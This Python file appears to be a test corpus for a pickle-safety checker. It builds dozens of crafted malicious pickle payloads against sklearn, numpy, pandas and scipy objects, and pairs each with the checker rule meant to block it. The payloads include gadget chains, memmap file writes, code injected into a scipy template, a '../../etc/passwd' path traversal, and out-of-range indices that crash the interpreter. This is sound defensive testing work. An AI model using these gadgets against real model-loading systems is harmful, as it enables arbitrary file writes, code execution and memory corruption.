"""Ways in that were proven against an index of names: each wants to make the file `canary`, or ends the interpreter.

`ways_in(canary)` gives name -> (bytes, rule that closes it). The rules are those of the judge; the search switches each
off and has to find the way again.
"""

from __future__ import annotations

import pickle
import struct
from collections.abc import Iterator

import numpy as np
import pandas as pd
from hostile_parts import P2, P3, P4, call, dtype, name, short, text
from scipy import sparse, spatial, stats
from sklearn.ensemble import HistGradientBoostingRegressor
from sklearn.neighbors import BallTree, KDTree
from sklearn.tree import DecisionTreeRegressor

X, Y = np.arange(20.0).reshape(10, 2), np.arange(10.0)
SCORER = ("sklearn.metrics._scorer", "_Scorer")
IMPORTANCES = ("sklearn.feature_selection._base", "_get_feature_importances")
NAMESPACE = ("types", "SimpleNamespace")


def new(module: str, cls: str, state: dict[str, bytes]) -> bytes:
    """NEWOBJ and BUILD of attributes that are opcodes."""
    items = b"".join(text(key) + value for key, value in state.items())
    return name(module, cls) + b")\x81}(" + items + b"ub"


def partial(function: bytes, *arguments: bytes) -> bytes:
    built = function + b"(" + b"".join(arguments) + b"t}N"
    return name("functools", "partial") + function + b"\x85R(" + built + b"tb"


def _memmap(canary: str) -> bytes:
    fields = {"filename": text(canary), "dtype": text("u1"), "mode": text("w+"), "shape": b"K\x04\x85"}
    return b"}(" + b"".join(text(key) + value for key, value in fields.items()) + b"u"


def _calls(canary: str) -> Iterator[tuple[str, tuple[bytes, str]]]:
    scorer = new(*SCORER, {"_score_func": name(*IMPORTANCES), "_sign": b"K\x01", "_kwargs": b"}",
                           "_response_method": text("predict")})  # fmt: skip
    space = name(*NAMESPACE) + b")R}" + text("keys") + partial(scorer, text("x"), text("a.free.path")) + b"sb"
    yield (
        "dict() of a namespace whose keys() is called",
        (P3 + name("builtins", "dict") + space + b"\x85R.", "arguments"),
    )
    yield "OrderedDict() of it", (P3 + name("collections", "OrderedDict") + space + b"\x85R.", "arguments")
    yield "set() of it", (P3 + name("builtins", "set") + space + b"\x85R.", "arguments")
    state = b"(K\x01K\x01\x85" + dtype("f8") + b"\x89" + space + b"tb"
    array = call("numpy._core.multiarray", "_reconstruct", name("numpy", "ndarray"), b"K\x00\x85", b"C\x01b") + state
    yield "an array whose data are an object", (P3 + array + b".", "arguments")
    meta = b"(K\x04" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00" + space + b"tb"
    yield "dtype metadata", (P3 + call("numpy", "dtype", text("M8"), b"\x89", b"\x88") + meta + b".", "arguments")
    yield "metric that is a scorer", (P3 + new("sklearn.neighbors._classification", "KNeighborsClassifier",
                                               {"metric": scorer}) + b".", "families")  # fmt: skip
    index = name("pandas.core.indexes.datetimes", "_new_DatetimeIndex")
    yield "an index that is a memmap", (P3 + index + name("numpy", "memmap") + _memmap(canary) + b"\x86R.", "arguments")
    maps = name("functools", "partial") + name("numpy", "abs") + b"\x85R(" + name("numpy", "memmap") + b")"
    yield "partial that changes its function", (P3 + maps + _memmap(canary) + b"Ntb.", "arguments")
    swap = name("sklearn.linear_model._base", "LinearRegression") + b")\x81N}" + text("__class__")
    yield "a class swapped by its second state", (P3 + swap + name("types", "ModuleType") + b"s\x86b.", "slots")
    swap = name("sklearn.linear_model._base", "LinearRegression") + b")\x81N}" + text("__class__") + text("x")
    yield "second state of a class without slots", (P3 + swap + b"s\x86b.", "slots")
    yield "array interface", (P3 + new("sklearn.linear_model._base", "LinearRegression", {
        "coef_": new(*NAMESPACE, {"__array_interface__": b"}"})}) + b".", "families")  # fmt: skip
    empty = new("pandas.core.arrays", "TimedeltaArray", {}).removesuffix(b"}(ub")
    yield "an array of pandas without its data", (P3 + empty + b".", "ranges")
    yield "a number as a size", (P3 + call("builtins", "bytearray", b"\x8a\x05\0\x10\xa5\xd4\xe8") + b".", "arguments")
    fraction = call("fractions", "Fraction", text("1e999999999"))
    yield "a fraction of a text", (P3 + fraction + b".", "ranges")
    key = call("zoneinfo", "ZoneInfo._unpickle", text("../../etc/passwd"), b"K\x01")
    yield "a zone that is a path", (P4 + short("zoneinfo") + short("ZoneInfo._unpickle") + b"\x93"
                                    + text("../../etc/passwd") + b"K\x01\x86R.", "ranges")  # fmt: skip
    assert key


def _attributes(_: str) -> Iterator[tuple[str, tuple[bytes, str]]]:
    getter = partial(name("numpy", "abs"))
    factory = call("collections", "defaultdict", name("os", "getpid"))
    linear = ("sklearn.linear_model._base", "LinearRegression")
    yield "predict hidden by a partial", (P3 + new(*linear, {"predict": getter}) + b".", "families")
    yield "predict hidden by data", (P3 + new(*linear, {"predict": text("x")}) + b".", "hiding")
    yield "a callable nobody knows of", (P3 + new(*linear, {"helper": name("numpy", "abs")}) + b".", "families")
    yield "a factory that acts", (P3 + factory + b".", "names")
    function = ("sklearn.preprocessing._function_transformer", "FunctionTransformer")
    for module, callee in (IMPORTANCES, ("sklearn.metrics._scorer", "_cached_call"), ("numpy", "savetxt"),
                           ("numpy.lib.stride_tricks", "as_strided"), ("pandas", "eval"), ("joblib", "load"),
                           ("numpy", "dtype"), ("builtins", "getattr")):  # fmt: skip
        yield (
            f"FunctionTransformer of {callee}",
            (P3 + new(*function, {"func": name(module, callee)}) + b".", "families"),
        )
    rfe = ("sklearn.feature_selection._rfe", "RFE")
    path = text("estimator_.__init__.__globals__")
    yield "importance_getter", (P3 + new(*rfe, {"importance_getter": path}) + b".", "texts")
    words = ("sklearn.feature_extraction.text", "CountVectorizer")
    yield "a request that opens files", (P3 + new(*words, {"input": text("filename")}) + b".", "texts")
    yield "a memory that unpickles", (P3 + new("sklearn.pipeline", "Pipeline", {
        "memory": new("joblib.memory", "MemorizedFunc", {"func": name("numpy", "abs")})}) + b".", "names")  # fmt: skip


def _texts(canary: str) -> Iterator[tuple[str, tuple[bytes, str]]]:
    honest = pickle.dumps(stats.norm(), 2)
    template = stats.norm._parse_arg_template
    edited = template + f"\nopen({canary!r}, 'w').close()\n"
    old, put = (b"X" + struct.pack("<I", len(part.encode())) + part.encode() for part in (template, edited))
    assert old in honest
    yield "a distribution's template", (honest.replace(old, put), "texts")


def _lies(_: str) -> Iterator[tuple[str, tuple[bytes, str]]]:
    tree = pickle.dumps(DecisionTreeRegressor(max_depth=2).fit(X, Y), 5)
    yield (
        "a child out of range",
        (_changed(tree, struct.pack("<qq", 1, 4), struct.pack("<qq", 1, 2_000_000_000)), "ranges"),
    )
    yield "a child that is its parent", (_changed(tree, struct.pack("<qq", 1, 4), struct.pack("<qq", 0, 4)), "ranges")
    model = HistGradientBoostingRegressor(max_iter=1, min_samples_leaf=1).fit(X, Y)
    nodes = model._predictors[0][0].nodes
    raw = nodes.tobytes()
    nodes["left"][0] = 400_000_000
    yield "a child of a histogram out of range", (_changed(_dumps(model, nodes, raw), b"", b""), "ranges")
    for kind in ("csr", "csc"):
        matrix = sparse.random(5, 5, 0.5, kind, random_state=0)
        matrix.indices[0] = 900_000_000
        yield f"{kind} index out of range", (pickle.dumps(matrix, 5), "ranges")
        matrix = sparse.random(5, 5, 0.5, kind, random_state=0)
        matrix.indptr[-1] = 900_000_000
        yield f"{kind} rows out of range", (pickle.dumps(matrix, 2), "ranges")
    twister = np.random.RandomState(0)
    state = list(twister.get_state())
    honest = pickle.dumps(twister, 2)
    assert state[2] == 624
    yield "a twister's position", (_changed(honest, b"posq", b"posq", b"M" + struct.pack("<H", 624),
                                            b"J" + struct.pack("<i", 200_000_000)), "ranges")  # fmt: skip


def _tables(_: str) -> Iterator[tuple[str, tuple[bytes, str]]]:
    """Found by the search: each ended the interpreter, or wrote beside what it was given."""
    index = pickle.dumps(pd.MultiIndex.from_product([["a", "b"], [1, 2]]), 4)
    yield "a code without a value of its level", (_changed(index, b"\0\1\0\1", b"\0\1\0\3"), "ranges")
    column = pickle.dumps(pd.Categorical(["u", "v", "u"]), 4)
    yield "a code without a category", (_changed(column, b"\0\1\0", b"\0\x63\0"), "ranges")
    frame = pickle.dumps(pd.DataFrame({"a": [1], "b": [2.0]}), 4)
    slice_ = b"K\x01K\x02K\x01\x87"
    yield "a block beside the table", (_changed(frame, slice_, slice_.replace(b"\x02", b"\x09")), "ranges")
    for cls, nodes in ((KDTree, 2), (BallTree, 2)):
        tree = cls(X, leaf_size=5)
        honest = tree.__getstate__()[nodes].tobytes()
        lying = honest[:8] + struct.pack("<q", 1 << 40) + honest[16:]
        yield (
            f"a node of a {cls.__name__} beyond its points",
            (_changed(pickle.dumps(tree, 4), honest, lying), "ranges"),
        )
    corners = spatial.Delaunay(np.random.RandomState(0).rand(9, 2))
    honest = corners.simplices.tobytes()
    lying = struct.pack("<i", 900_000_000) + honest[4:]
    yield "a corner that is no point", (_changed(pickle.dumps(corners, 4), honest, lying), "ranges")
    yield "flags that no dtype has", (P3 + dtype("f8", flags=64) + b".", "ranges")


def _dumps(model: object, _: object, __: bytes) -> bytes:
    return pickle.dumps(model, 5)


def _changed(content: bytes, old: bytes, new_: bytes, *more: bytes) -> bytes:
    if old:
        assert old in content
        content = content.replace(old, new_, 1)
    if more:
        assert more[0] in content
        content = content.replace(more[0], more[1], 1)
    return content


def _forgotten(_: str) -> Iterator[tuple[str, tuple[bytes, str]]]:
    many = b"".join(b"N0" + text(f"t{n}") + b"r" + struct.pack("<I", n) + b"0" for n in range(250_001))
    space = name(*NAMESPACE) + b")Rr" + struct.pack("<I", 250_001) + b"0"
    use = name("builtins", "dict") + b"j" + struct.pack("<I", 250_001) + b"\x85R."
    yield "an object that was forgotten", (P2 + many + space + use, "arguments")


def ways_in(canary: str) -> dict[str, tuple[bytes, str]]:
    """All ways by name."""
    found: dict[str, tuple[bytes, str]] = {}
    for group in (_calls, _attributes, _texts, _lies, _tables, _forgotten):
        found.update(group(canary))
    return found
